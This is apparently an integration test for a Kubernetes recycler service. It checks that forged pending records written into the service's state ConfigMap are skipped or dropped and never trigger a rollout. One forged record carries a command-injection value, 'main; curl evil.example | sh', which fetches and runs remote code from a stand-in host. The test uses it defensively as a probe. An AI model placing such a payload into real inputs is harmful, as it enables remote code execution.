// The state is not trusted as written. Anyone who can write ConfigMaps in the
// service's namespace can write a site's state: here kubectl writes a forged
// `pending` record into the real state ConfigMap while a real `serve` process
// leads. A record written while the site is paused is decided again when it
// is claimed and skipped (paused); a record whose commit is not a commit is
// dropped when the state is loaded, never run. Either way the workload is
// never touched: no rollout, no lock.

import t, { type Test } from 'tap'
import { randomBytes } from 'node:crypto'
import { freshNamespace, kubectl, kubectlJson } from '../fixtures/kube-cluster.ts'
import { waitFor } from '../fixtures/wait.ts'
import { deployment } from '../fixtures/engine.ts'
import { haConfig, startReplica, type Replica } from '../fixtures/replicas.ts'

const CM = 'kube-recycler-site-shop'
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms))

async function site(t: Test): Promise<string> {
  const ns = await freshNamespace('forged')
  t.teardown(ns.cleanup)
  await kubectl(['apply', '-f', '-'], { namespace: ns.name, input: deployment('web', 2) })
  await waitFor(
    async () =>
      (await kubectlJson(['get', 'deployment', 'web'], { namespace: ns.name })).status?.availableReplicas === 2,
    { timeoutMs: 60_000, description: 'web available' },
  )
  return ns.name
}

/** The workload as a recycle would change it: its rollouts so far and its lock. */
async function workload(ns: string): Promise<{ revision: string; lock: string | undefined }> {
  const d = await kubectlJson(['get', 'deployment', 'web'], { namespace: ns })
  return {
    revision: d.metadata.annotations['deployment.kubernetes.io/revision'],
    lock: d.metadata.annotations['kube-recycler.io/last-recycle'],
  }
}

/** Adds a pending record to the stored state with kubectl, as an attacker with ConfigMap rights would. */
async function forge(ns: string, over: Record<string, unknown>): Promise<string> {
  const cm = await kubectlJson(['get', 'configmap', CM], { namespace: ns })
  const state = JSON.parse(cm.data['state.json'])
  const now = new Date().toISOString()
  const id = `rc-${Date.now().toString(36)}-${randomBytes(4).toString('hex')}`
  state.health = 'failing'
  state.starts = [...state.starts, now]
  state.recycles = [
    ...state.recycles,
    {
      id,
      site: 'shop',
      target: `Deployment/${ns}/web`,
      strategy: 'rollout',
      trigger: { source: 'jenkins', reason: 'FAILURE (forged)' },
      dryRun: false,
      state: 'pending',
      steps: [],
      createdAt: now,
      ...over,
    },
  ]
  cm.data['state.json'] = JSON.stringify(state)
  await kubectl(['replace', '-f', '-'], { namespace: ns, input: JSON.stringify(cm) })
  return id
}

async function leading(r: Replica): Promise<void> {
  await waitFor(
    async () => (await r.get('/status')).json?.service?.leader === true && (await r.get('/readyz')).status === 200,
    { timeoutMs: 20_000, description: 'the replica leads' },
  )
}

t.test(
  'issue 22 point 5: a forged pending record is never run: decided again while paused, dropped when its commit is not a commit',
  async (t) => {
    const ns = await site(t)
    const leader = await startReplica(t, {
      name: 'replica-a',
      configPath: haConfig(ns, '{ cooldown: 0s, timeout: 60s }'),
      namespace: ns,
    })
    await leading(leader)
    const before = await workload(ns)

    t.equal((await leader.post('/sites/shop/pause', { reason: 'deploy freeze' })).status, 200)
    await waitFor(
      async () =>
        (await kubectlJson(['get', 'configmap', CM], { namespace: ns })).data?.['state.json']?.includes(
          'deploy freeze',
        ),
      { description: 'the pause is stored' },
    )
    const paused = await forge(ns, {})
    const skipped = await waitFor(
      async () => {
        const r = await leader.get(`/recycles/${paused}`)
        return r.status === 200 && r.json.state !== 'pending' ? r.json : undefined
      },
      { timeoutMs: 20_000, description: 'the forged record decided' },
    )
    t.match(
      skipped,
      { state: 'skipped', reasonKind: 'paused', reason: /^paused: this site is paused/ },
      'skipped when claimed: the site is paused',
    )
    t.same(await workload(ns), before, 'the workload was not touched')

    t.equal((await leader.post('/sites/shop/resume', { reason: 'freeze over' })).status, 200)
    const bogus = await forge(ns, { commit: 'main; curl evil.example | sh' })
    await waitFor(() => leader.proc.output().includes('dropped, never run'), {
      timeoutMs: 20_000,
      description: 'the bad record dropped and said',
    })
    await sleep(3000)
    t.equal((await leader.get(`/recycles/${bogus}`)).status, 404, 'the record with a bogus commit is gone')
    t.same(await workload(ns), before, 'the workload was not touched')
  },
)
